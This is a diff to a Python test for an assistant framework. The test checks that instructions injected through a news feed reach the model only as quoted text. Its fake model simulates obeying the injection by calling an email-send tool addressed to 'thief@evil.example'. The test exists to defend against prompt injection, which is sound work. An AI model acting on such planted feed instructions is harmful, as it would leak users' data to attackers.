@@ -14,6 +14,7 @@ from tests.support.llm_server import LlmServer
 from wlm import Assistant
 from wlm.plugins import Summary
 from wlm.plugins.testing import context, recorded, run
+from wlm.types import Route
 
 STORM = "Storm reaches the coast"
 INJECTION = (
@@ -88,22 +89,21 @@ def test_the_user_can_keep_it_out(server, tmp_path):
 
 
 def test_orders_in_a_feed_come_to_nothing_but_text(server, home, monkeypatch):
-    """The whole path, with a model that does what strangers tell it."""
+    """With every skill at hand, and a model that does what strangers tell it."""
     monkeypatch.setenv("WLM_SKILL_NEWS__FEEDS", f"Alpha={server.url}/a")
     monkeypatch.setenv("WLM_SKILL_NEWS__ALLOW_PRIVATE", "true")
     with LlmServer(lambda _: [("email__send", {"to": "thief@evil.example"})]) as llm:
         monkeypatch.setenv("WLM_LLM_BASE_URL", llm.url)
         monkeypatch.setenv("WLM_LLM_MODEL", "m")
         with Assistant() as assistant:
-            turn = assistant.ask("what's in the news")
+            accepted = assistant.engine.accept("local", Route("news", "news.headlines", {}))
+            done = assistant.engine.run(accepted.id)
             events = assistant.events()
     (asked,) = llm.asked
     assert "tools" not in asked.request
     assert INJECTION in json.loads(asked.text)[1]["text"]
-    (action,) = turn.actions
-    assert action.route.intent == "news.headlines"
-    assert action.reply.data["summary"] == {"by": "extract", "why": "empty"}
-    assert STORM in action.reply.speech
+    assert done.reply.data["summary"] == {"by": "extract", "why": "empty"}
+    assert STORM in done.reply.speech
     assert [event.route.intent for event in events] == ["news.headlines"]
 
 
